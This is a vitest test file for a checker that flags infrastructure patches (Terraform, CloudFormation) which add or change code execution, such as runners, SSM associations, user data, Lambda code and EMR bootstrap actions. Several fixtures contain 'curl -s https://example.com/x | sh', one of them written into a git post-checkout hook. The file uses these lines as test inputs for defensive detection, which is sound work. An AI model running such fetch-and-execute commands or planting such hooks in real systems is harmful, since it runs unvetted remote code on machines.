/** `code-execution` beyond provisioners: runners, scoped data sources, SSM, local files, user data, images, function and layer code, job scripts, cluster bootstrap actions. */
import { describe, it } from 'vitest';
import { edit, expectVerdict, type Row } from './judge.js';

const INSTANCE =
  'resource "aws_instance" "web" {\n  ami           = "ami-0123456789abcdef0"\n  instance_type = "t3.micro"\n  user_data     = file("${path.module}/boot.sh")\n}\n';
const RUNNER = 'resource "null_resource" "warm" {\n  triggers = {\n    version = "1"\n  }\n}\n';
const FUNCTION =
  'resource "aws_lambda_function" "api" {\n  function_name    = "api"\n  role             = "arn:aws:iam::111122223333:role/api"\n  handler          = "index.handler"\n  runtime          = "nodejs20.x"\n  s3_bucket        = "acme-artifacts"\n  s3_key           = "api-1.4.2.zip"\n}\n';
const TASK =
  'resource "aws_ecs_task_definition" "app" {\n  family = "app"\n  container_definitions = jsonencode([{\n    name      = "app"\n    image     = "111122223333.dkr.ecr.us-east-1.amazonaws.com/app:1.4.2"\n    memory    = 512\n    essential = true\n  }])\n}\n';

const CFN_INSTANCE = `Resources:
  Web:
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-0123456789abcdef0
      InstanceType: t3.micro
      UserData: !Base64 |
        #!/bin/bash
        yum update -y
`;
const CFN_FUNCTION =
  '{"Resources": {"Handler": {"Type": "AWS::Lambda::Function", "Properties": {"Runtime": "python3.12", "Handler": "index.handler", "Role": "arn:aws:iam::111122223333:role/handler", "Code": {"S3Bucket": "acme-artifacts", "S3Key": "handler-2.0.0.zip"}}}}}';

const LAYER =
  'resource "aws_lambda_layer_version" "tools" {\n  layer_name = "tools"\n  s3_bucket  = "acme-artifacts"\n  s3_key     = "tools-1.0.0.zip"\n}\n';
const CFN_GLUE =
  'Resources:\n  Etl:\n    Type: AWS::Glue::Job\n    Properties:\n      Role: arn:aws:iam::111122223333:role/glue\n      Command:\n        Name: glueetl\n        ScriptLocation: s3://acme-artifacts/etl-1.py\n';

const violations: Row[] = [
  {
    name: 'a null_resource appears without provisioners',
    kind: 'terraform',
    before: '',
    after: RUNNER,
    expected: [
      ['code-execution', 'main.tf: null_resource.warm is new or changed: it exists only to run things, and a change runs it again'],
    ],
  },
  {
    name: 'a null_resource changes its triggers',
    kind: 'terraform',
    before: RUNNER,
    after: edit(RUNNER, '"1"', '"2"'),
    expected: [['code-execution', 'null_resource.warm is new or changed']],
  },
  {
    name: 'a terraform_data appears',
    kind: 'terraform',
    before: '',
    after: 'resource "terraform_data" "marker" {\n  input = "v2"\n}\n',
    expected: [['code-execution', 'terraform_data.marker is new or changed']],
  },
  {
    name: 'a check block reads an external program',
    kind: 'terraform',
    before: RUNNER,
    after: `${RUNNER}\ncheck "health" {\n  data "external" "probe" {\n    program = ["sh", "-c", "curl -s https://example.com/x | sh"]\n  }\n\n  assert {\n    condition     = data.external.probe.result.ok == "true"\n    error_message = "unhealthy"\n  }\n}\n`,
    expected: [
      ['code-execution', 'the check block health is new or changed and holds an external data source: it runs a program on every plan'],
    ],
  },
  {
    name: 'an SSM association appears',
    kind: 'terraform',
    before: '',
    after:
      'resource "aws_ssm_association" "patch" {\n  name = "AWS-RunShellScript"\n\n  targets {\n    key    = "tag:Role"\n    values = ["web"]\n  }\n\n  parameters = {\n    commands = "curl -s https://example.com/x | sh"\n  }\n}\n',
    expected: [['code-execution', 'aws_ssm_association.patch is new or changed: it runs an SSM document on instances']],
  },
  {
    name: 'a local file is written',
    kind: 'terraform',
    before: '',
    after:
      'resource "local_file" "hook" {\n  filename = "${path.root}/../.git/hooks/post-checkout"\n  content  = "#!/bin/sh\\ncurl -s https://example.com/x | sh\\n"\n}\n',
    expected: [['code-execution', 'local_file.hook is new or changed: it writes a file where Terraform runs']],
  },
  {
    name: 'a module from a GitHub path that looks like a registry address appears',
    kind: 'terraform',
    before: '',
    after: 'module "vpc" {\n  source = "github.com/acme/vpc/aws"\n}\n',
    expected: [
      [
        'code-execution',
        'module.vpc is a new module call: the code of github.com/acme/vpc/aws runs with the plan, and none of it is part of the patch',
      ],
    ],
  },
  {
    name: 'user data changes',
    kind: 'terraform',
    before: INSTANCE,
    after: edit(INSTANCE, 'file("${path.module}/boot.sh")', '"#!/bin/sh\\ncurl -s https://example.com/x | sh"'),
    expected: [['code-execution', 'aws_instance.web has a new or changed user_data, which runs on the instance at boot']],
  },
  {
    name: 'an instance changes its machine image',
    kind: 'terraform',
    before: INSTANCE,
    after: edit(INSTANCE, 'ami-0123456789abcdef0', 'ami-0fedcba9876543210'),
    expected: [
      ['replacement', 'aws_instance.web changes ami'],
      ['code-execution', 'aws_instance.web has a new or changed ami, which is the machine image the instance runs'],
    ],
  },
  {
    name: 'a function deploys another package',
    kind: 'terraform',
    before: FUNCTION,
    after: edit(FUNCTION, 'api-1.4.2.zip', 'api-1.4.3.zip'),
    expected: [['code-execution', "aws_lambda_function.api has a new or changed s3_key, which is the function's code"]],
  },
  {
    name: 'a function gains a layer',
    kind: 'terraform',
    before: FUNCTION,
    after: edit(
      FUNCTION,
      '  runtime          = "nodejs20.x"\n',
      '  runtime          = "nodejs20.x"\n  layers           = ["arn:aws:lambda:us-east-1:999988887777:layer:tools:1"]\n',
    ),
    expected: [['code-execution', 'has a new or changed layers']],
  },
  {
    name: 'a task runs another image',
    kind: 'terraform',
    before: TASK,
    after: edit(TASK, 'app:1.4.2', 'app:latest'),
    expected: [
      ['code-execution', 'aws_ecs_task_definition.app has a new or changed container_definitions, which are the containers the task runs'],
    ],
  },
  {
    name: 'user data (YAML) changes',
    kind: 'cloudformation',
    before: CFN_INSTANCE,
    after: edit(CFN_INSTANCE, 'yum update -y', 'curl -s https://example.com/x | sh'),
    expected: [['code-execution', 'template.yaml: Web has a new or changed UserData, which runs on the instance at boot']],
  },
  {
    name: 'an instance (YAML) changes its image',
    kind: 'cloudformation',
    before: CFN_INSTANCE,
    after: edit(CFN_INSTANCE, 'ami-0123456789abcdef0', 'ami-0fedcba9876543210'),
    expected: [
      ['replacement', 'Web changes ImageId'],
      ['code-execution', 'Web has a new or changed ImageId'],
    ],
  },
  {
    name: 'cfn-init metadata (YAML) appears',
    kind: 'cloudformation',
    before: CFN_INSTANCE,
    after: edit(
      CFN_INSTANCE,
      '    Type: AWS::EC2::Instance\n',
      "    Type: AWS::EC2::Instance\n    Metadata:\n      AWS::CloudFormation::Init:\n        config:\n          commands:\n            fetch: { command: 'curl -s https://example.com/x | sh' }\n",
    ),
    expected: [['code-execution', 'Web has new or changed AWS::CloudFormation::Init metadata']],
  },
  {
    name: 'a function (JSON) deploys another package',
    kind: 'cloudformation',
    before: CFN_FUNCTION,
    after: CFN_FUNCTION.replace('handler-2.0.0.zip', 'handler-2.0.1.zip'),
    expected: [['code-execution', "template.json: Handler has a new or changed Code.S3Key, which is the function's code"]],
  },
  {
    name: 'a layer deploys another package',
    kind: 'terraform',
    before: LAYER,
    after: edit(LAYER, 'tools-1.0.0.zip', 'tools-1.0.1.zip'),
    expected: [
      ['replacement', 'aws_lambda_layer_version.tools changes s3_key'],
      ['code-execution', 'aws_lambda_layer_version.tools has a new or changed s3_key, which is code every function using the layer runs'],
    ],
  },
  {
    name: 'a Glue job (YAML) runs another script',
    kind: 'cloudformation',
    before: CFN_GLUE,
    after: edit(CFN_GLUE, 'etl-1.py', 'etl-2.py'),
    expected: [['code-execution', 'Etl has a new or changed Command.ScriptLocation, which is the script the job runs']],
  },
  {
    name: 'an EMR cluster gains a bootstrap action',
    kind: 'terraform',
    before: '',
    after:
      'resource "aws_emr_cluster" "etl" {\n  name          = "etl"\n  release_label = "emr-7.1.0"\n  service_role  = "arn:aws:iam::111122223333:role/emr"\n\n  bootstrap_action {\n    path = "s3://acme-artifacts/setup.sh"\n    name = "setup"\n  }\n}\n',
    expected: [['code-execution', "aws_emr_cluster.etl has a new or changed bootstrap_action, which runs on the cluster's instances"]],
  },
  {
    name: 'a third-party resource type (YAML) appears',
    kind: 'cloudformation',
    before: CFN_INSTANCE,
    after: `${CFN_INSTANCE}  Scan:\n    Type: Acme::Security::Scanner\n    Properties:\n      Target: !Ref Web\n`,
    expected: [
      ['code-execution', 'Scan is new or changed and is a third-party resource type or module: code outside the patch runs on deploy'],
    ],
  },
  {
    name: 'an SSM association (YAML) appears',
    kind: 'cloudformation',
    before: CFN_INSTANCE,
    after: `${CFN_INSTANCE}  Patch:\n    Type: AWS::SSM::Association\n    Properties:\n      Name: AWS-RunShellScript\n      Targets: [{ Key: InstanceIds, Values: [!Ref Web] }]\n`,
    expected: [['code-execution', 'Patch is new or changed and is an SSM association: it runs a document on instances']],
  },
];

const allowed: Row[] = [
  {
    name: 'a null_resource stays while another resource changes',
    kind: 'terraform',
    before: `${RUNNER}\n${INSTANCE}`,
    after: `${RUNNER}\n${edit(INSTANCE, 't3.micro', 't3.small')}`,
    expected: [],
  },
  {
    name: 'an instance gets IMDSv2 and keeps its user data',
    kind: 'terraform',
    before: INSTANCE,
    after: edit(INSTANCE, '}\n', '\n  metadata_options {\n    http_tokens = "required"\n  }\n}\n'),
    expected: [],
  },
  {
    name: 'a function changes its memory',
    kind: 'terraform',
    before: FUNCTION,
    after: edit(FUNCTION, '  runtime          = "nodejs20.x"\n', '  runtime          = "nodejs20.x"\n  memory_size      = 256\n'),
    expected: [],
  },
  {
    name: 'a task changes its memory',
    kind: 'terraform',
    before: TASK,
    after: edit(TASK, 'memory    = 512', 'memory    = 1024'),
    expected: [],
  },
  {
    name: 'an instance (YAML) gets IMDSv2',
    kind: 'cloudformation',
    before: CFN_INSTANCE,
    after: edit(
      CFN_INSTANCE,
      '      InstanceType: t3.micro\n',
      '      InstanceType: t3.micro\n      MetadataOptions: { HttpTokens: required }\n',
    ),
    expected: [],
  },
  {
    name: 'a function (JSON) changes its timeout',
    kind: 'cloudformation',
    before: CFN_FUNCTION,
    after: CFN_FUNCTION.replace('"Runtime"', '"Timeout": 30, "Runtime"'),
    expected: [],
  },
];

describe('checkPatch: code-execution beyond provisioners', () => {
  it.each(violations)('reports it when $name', expectVerdict);
  it.each(allowed)('lets the patch pass when $name', expectVerdict);
});
